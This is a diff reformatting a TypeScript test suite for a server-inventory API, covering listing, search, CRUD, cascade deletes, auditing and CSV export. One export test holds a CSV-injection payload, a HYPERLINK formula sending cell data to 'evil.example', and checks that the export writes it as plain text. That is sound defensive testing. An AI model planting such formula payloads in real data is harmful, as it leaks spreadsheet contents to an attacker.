@@ -12,7 +12,17 @@ const template = useTemplate();
 /** A fresh copy of the seeded database for a group of tests, signed in as `tecnico` (SER#VER, SER#EDITAR...). */
 const fresh = () => freshApp(template, ['tecnico']);
 
-const NUEVO = { nombre: 'srv-nuevo-01', hostname: 'nuevo01.physis.com.ar', ip_publica: '200.1.2.3', ip_privada: '', proveedor: 'AWS', rol: 'Pruebas', so: 'Debian 12', estado: 'activo', notas: '' };
+const NUEVO = {
+  nombre: 'srv-nuevo-01',
+  hostname: 'nuevo01.physis.com.ar',
+  ip_publica: '200.1.2.3',
+  ip_privada: '',
+  proveedor: 'AWS',
+  rol: 'Pruebas',
+  so: 'Debian 12',
+  estado: 'activo',
+  notas: '',
+};
 
 describe('GET /api/servidores (spec shape)', () => {
   const ctx = fresh();
@@ -65,14 +75,19 @@ describe('GET /api/servidores/lista', () => {
     const byEstado = await lista('sort=estado&size=200');
     const estados = byEstado.body.datos.items.map((s: { estado: string }) => s.estado);
     expect(estados).toEqual([...estados].sort());
-    for (const sort of ['hostname', '-proveedor', 'rol', '-actualizado']) expect((await lista(`sort=${sort}`)).status).toBe(200);
+    for (const sort of ['hostname', '-proveedor', 'rol', '-actualizado'])
+      expect((await lista(`sort=${sort}`)).status).toBe(200);
   });
 
   it('searches q over name, hostname, IPs, provider and role, case-insensitively, wildcards literal', async () => {
     expect((await lista('q=WEB-01')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(['srv-web-01']);
-    expect((await lista('q=192.168.0.40')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(['srv-backup-01']);
+    expect((await lista('q=192.168.0.40')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual([
+      'srv-backup-01',
+    ]);
     expect((await lista('q=hetzner')).body.datos.total).toBe(3);
-    expect((await lista('q=base de datos')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(['srv-db-01']);
+    expect((await lista('q=base de datos')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual([
+      'srv-db-01',
+    ]);
     expect((await lista('q=%25')).body.datos.total).toBe(0);
     expect((await lista('q=srv_')).body.datos.total).toBe(0);
   });
@@ -95,15 +110,26 @@ describe('GET /api/servidores/lista', () => {
 describe('GET /api/servidores/:id', () => {
   const ctx = fresh();
   it('answers the server with its DNS entries and their addresses', async () => {
-    const [srv] = await ctx.t.db.select({ id: servidores.id }).from(servidores).where(sql`${servidores.nombre} = 'srv-app-01'`);
+    const [srv] = await ctx.t.db
+      .select({ id: servidores.id })
+      .from(servidores)
+      .where(sql`${servidores.nombre} = 'srv-app-01'`);
     const res = await ctx.t.app.inject({ url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico });
     expect(res.statusCode).toBe(200);
     const body = res.json();
     expect(envelope(servidorDetalle).safeParse(body).success).toBe(true);
-    expect(body.datos.dns_entries.map((e: { host: string }) => e.host)).toEqual(['api.physis.com.ar', 'app.physis.com.ar']);
+    expect(body.datos.dns_entries.map((e: { host: string }) => e.host)).toEqual([
+      'api.physis.com.ar',
+      'app.physis.com.ar',
+    ]);
     const api = body.datos.dns_entries[0];
     expect(api).toMatchObject({ servidor_nombre: 'srv-app-01', tipo: 'A', direcciones_count: 1 });
-    expect(api.direcciones[0]).toMatchObject({ host: 'api.physis.com.ar', port: 443, path: '/api', url: 'https://api.physis.com.ar/api' });
+    expect(api.direcciones[0]).toMatchObject({
+      host: 'api.physis.com.ar',
+      port: 443,
+      path: '/api',
+      url: 'https://api.physis.com.ar/api',
+    });
   });
 
   it('answers 404 for a server that does not exist and 400 for a bad id', async () => {
@@ -123,19 +149,39 @@ describe('creating and changing a server', () => {
   };
 
   it('creates with 201 and the record, writing an audit row with after', async () => {
-    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.tecnico, payload: NUEVO });
+    const res = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores',
+      headers: ctx.tecnico,
+      payload: NUEVO,
+    });
     expect(res.statusCode).toBe(201);
     const creado = res.json().datos;
     expect(creado).toMatchObject({ nombre: 'srv-nuevo-01', ip_privada: null, notas: null, dnss: [] });
     const [row] = await history(creado.id);
-    expect(row).toMatchObject({ accion: 'crear', entidad: 'servidor', entidad_id: String(creado.id), usuario_nombre: 'Técnico Demo', antes: null });
+    expect(row).toMatchObject({
+      accion: 'crear',
+      entidad: 'servidor',
+      entidad_id: String(creado.id),
+      usuario_nombre: 'Técnico Demo',
+      antes: null,
+    });
     expect(row.despues).toMatchObject({ nombre: 'srv-nuevo-01', ip_publica: '200.1.2.3' });
   });
 
   it('refuses a duplicate name in any case with 409 on the nombre field', async () => {
-    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.tecnico, payload: { ...NUEVO, nombre: 'SRV-APP-01' } });
+    const res = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores',
+      headers: ctx.tecnico,
+      payload: { ...NUEVO, nombre: 'SRV-APP-01' },
+    });
     expect(res.statusCode).toBe(409);
-    expect(res.json()).toEqual({ error: 'Ya existe un servidor con ese nombre', datos: null, campos: { nombre: ['Ya existe un servidor con ese nombre'] } });
+    expect(res.json()).toEqual({
+      error: 'Ya existe un servidor con ese nombre',
+      datos: null,
+      campos: { nombre: ['Ya existe un servidor con ese nombre'] },
+    });
   });
 
   it('answers 400 with the fields for invalid input', async () => {
@@ -150,21 +196,46 @@ describe('creating and changing a server', () => {
   });
 
   it('updates, writing before and after; 404 for a missing server; 409 for a taken name', async () => {
-    const [srv] = await ctx.t.db.select({ id: servidores.id }).from(servidores).where(sql`${servidores.nombre} = 'srv-nuevo-01'`);
-    const res = await ctx.t.app.inject({ method: 'PUT', url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico, payload: { ...NUEVO, estado: 'offline', rol: 'Retirado' } });
+    const [srv] = await ctx.t.db
+      .select({ id: servidores.id })
+      .from(servidores)
+      .where(sql`${servidores.nombre} = 'srv-nuevo-01'`);
+    const res = await ctx.t.app.inject({
+      method: 'PUT',
+      url: `/api/servidores/${srv!.id}`,
+      headers: ctx.tecnico,
+      payload: { ...NUEVO, estado: 'offline', rol: 'Retirado' },
+    });
     expect(res.statusCode).toBe(200);
     expect(res.json().datos).toMatchObject({ id: srv!.id, estado: 'offline', rol: 'Retirado' });
     const [row] = await history(srv!.id);
-    expect(row).toMatchObject({ accion: 'modificar', antes: { estado: 'activo', rol: 'Pruebas' }, despues: { estado: 'offline', rol: 'Retirado' } });
+    expect(row).toMatchObject({
+      accion: 'modificar',
+      antes: { estado: 'activo', rol: 'Pruebas' },
+      despues: { estado: 'offline', rol: 'Retirado' },
+    });
 
-    expect((await ctx.t.app.inject({ method: 'PUT', url: '/api/servidores/999999', headers: ctx.tecnico, payload: NUEVO })).statusCode).toBe(404);
-    const taken = await ctx.t.app.inject({ method: 'PUT', url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico, payload: { ...NUEVO, nombre: 'srv-db-01' } });
+    expect(
+      (await ctx.t.app.inject({ method: 'PUT', url: '/api/servidores/999999', headers: ctx.tecnico, payload: NUEVO }))
+        .statusCode,
+    ).toBe(404);
+    const taken = await ctx.t.app.inject({
+      method: 'PUT',
+      url: `/api/servidores/${srv!.id}`,
+      headers: ctx.tecnico,
+      payload: { ...NUEVO, nombre: 'srv-db-01' },
+    });
     expect(taken.statusCode).toBe(409);
     expect(taken.json().campos).toEqual({ nombre: ['Ya existe un servidor con ese nombre'] });
   });
 
   it('is refused to a user who may only read', async () => {
-    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: await bearer(ctx.t.app, 'comercial', PASSWORDS.demo), payload: NUEVO });
+    const res = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores',
+      headers: await bearer(ctx.t.app, 'comercial', PASSWORDS.demo),
+      payload: NUEVO,
+    });
     expect(res.statusCode).toBe(403);
   });
 });
@@ -173,7 +244,8 @@ describe('deleting servers', () => {
   const ctx = fresh();
   const idOf = async (nombre: string) =>
     (await ctx.t.db.select({ id: servidores.id }).from(servidores).where(sql`${servidores.nombre} = ${nombre}`))[0]?.id;
-  const dnsOf = async (servidorId: number) => ctx.t.db.select({ id: dns.id }).from(dns).where(sql`${dns.servidorId} = ${servidorId}`);
+  const dnsOf = async (servidorId: number) =>
+    ctx.t.db.select({ id: dns.id }).from(dns).where(sql`${dns.servidorId} = ${servidorId}`);
 
   it('refuses a server with DNS entries without cascada (409), deleting nothing', async () => {
     const id = (await idOf('srv-app-01'))!;
@@ -186,11 +258,21 @@ describe('deleting servers', () => {
   it('rolls everything back when a write inside fails (the audit insert here)', async () => {
     const id = (await idOf('srv-app-01'))!;
     await ctx.t.db.execute(
-      sql.raw(`create function auditoria_falla() returns trigger language plpgsql as $$ begin raise exception 'auditoria caida'; end $$`),
+      sql.raw(
+        `create function auditoria_falla() returns trigger language plpgsql as $$ begin raise exception 'auditoria caida'; end $$`,
+      ),
     );
-    await ctx.t.db.execute(sql.raw('create trigger auditoria_falla before insert on auditoria for each row execute function auditoria_falla()'));
+    await ctx.t.db.execute(
+      sql.raw(
+        'create trigger auditoria_falla before insert on auditoria for each row execute function auditoria_falla()',
+      ),
+    );
     try {
-      const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}?cascada=true`, headers: ctx.tecnico });
+      const res = await ctx.t.app.inject({
+        method: 'DELETE',
+        url: `/api/servidores/${id}?cascada=true`,
+        headers: ctx.tecnico,
+      });
       expect(res.statusCode).toBe(500);
     } finally {
       await ctx.t.db.execute(sql.raw('drop trigger auditoria_falla on auditoria'));
@@ -203,12 +285,19 @@ describe('deleting servers', () => {
   it('with cascada=true deletes the server, its DNS entries and their addresses, with an audit row for each', async () => {
     const id = (await idOf('srv-app-01'))!;
     const entries = await dnsOf(id);
-    const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}?cascada=true`, headers: ctx.tecnico });
+    const res = await ctx.t.app.inject({
+      method: 'DELETE',
+      url: `/api/servidores/${id}?cascada=true`,
+      headers: ctx.tecnico,
+    });
     expect(res.statusCode).toBe(200);
     expect(res.json()).toEqual({ error: null, datos: null });
     expect(await idOf('srv-app-01')).toBeUndefined();
     expect(await dnsOf(id)).toEqual([]);
-    const left = await ctx.t.db.select().from(direcciones).where(sql`${direcciones.dnsId} in ${entries.map((e) => e.id)}`);
+    const left = await ctx.t.db
+      .select()
+      .from(direcciones)
+      .where(sql`${direcciones.dnsId} in ${entries.map((e) => e.id)}`);
     expect(left).toEqual([]);
     const rows = await ctx.t.db.select().from(auditoria).where(sql`${auditoria.accion} = 'eliminar'`);
     expect(rows.filter((r) => r.entidad === 'servidor').map((r) => r.entidadId)).toEqual([String(id)]);
@@ -220,23 +309,42 @@ describe('deleting servers', () => {
 
   it('deletes a server without DNS entries without cascada; 404 when it does not exist', async () => {
     const id = (await idOf('srv-test-02'))!;
-    expect((await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode).toBe(200);
-    expect((await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode).toBe(404);
+    expect(
+      (await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode,
+    ).toBe(200);
+    expect(
+      (await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode,
+    ).toBe(404);
   });
 
   it('bulk: all or none; 409 naming the servers with entries unless cascada', async () => {
     const ids = [(await idOf('srv-db-01'))!, (await idOf('srv-web-01'))!];
-    const refused = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.tecnico, payload: { ids } });
+    const refused = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores/eliminar',
+      headers: ctx.tecnico,
+      payload: { ids },
+    });
     expect(refused.statusCode).toBe(409);
     expect(refused.json().error).toMatch(/srv-db-01, srv-web-01/);
     expect(await idOf('srv-db-01')).toBe(ids[0]);
 
-    const done = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.tecnico, payload: { ids: [...ids, 999999], cascada: true } });
+    const done = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores/eliminar',
+      headers: ctx.tecnico,
+      payload: { ids: [...ids, 999999], cascada: true },
+    });
     expect(done.statusCode).toBe(200);
     expect(done.json()).toEqual({ error: null, datos: { eliminados: 2 } });
     expect(await idOf('srv-web-01')).toBeUndefined();
 
-    const empty = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.tecnico, payload: { ids: [] } });
+    const empty = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores/eliminar',
+      headers: ctx.tecnico,
+      payload: { ids: [] },
+    });
     expect(empty.statusCode).toBe(400);
     expect(empty.json().campos).toHaveProperty('ids');
   });
@@ -253,7 +361,20 @@ describe('GET /api/servidores/export.csv', () => {
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename="servidores-\d{4}-\d{2}-\d{2}\.csv"$/);
     expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     const rows: string[][] = parse(res.body, { bom: true });
-    expect(rows[0]).toEqual(['Nombre', 'Hostname', 'IP pública', 'IP privada', 'Proveedor', 'Rol', 'Sistema operativo', 'Estado', 'Entradas DNS', 'Notas', 'Creado', 'Actualizado']);
+    expect(rows[0]).toEqual([
+      'Nombre',
+      'Hostname',
+      'IP pública',
+      'IP privada',
+      'Proveedor',
+      'Rol',
+      'Sistema operativo',
+      'Estado',
+      'Entradas DNS',
+      'Notas',
+      'Creado',
+      'Actualizado',
+    ]);
     expect(rows.slice(1).map((r) => r[0])).toEqual(['srv-web-01', 'srv-vpn-01', 'srv-mail-01']);
     const mail = rows[3]!;
     expect(mail[8]).toBe('mail.physis.com.ar webmail.physis.com.ar');
@@ -297,7 +418,12 @@ describe('GET /api/servidores/export.csv', () => {
 
   it('writes a name that a spreadsheet would run as a formula as plain text', async () => {
     const nombre = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
-    const creado = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.tecnico, payload: { ...NUEVO, nombre, notas: '@SUM(1+1)' } });
+    const creado = await ctx.t.app.inject({
+      method: 'POST',
+      url: '/api/servidores',
+      headers: ctx.tecnico,
+      payload: { ...NUEVO, nombre, notas: '@SUM(1+1)' },
+    });
     expect(creado.statusCode).toBe(201);
     const res = await csv('q=evil.example');
     expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"`);
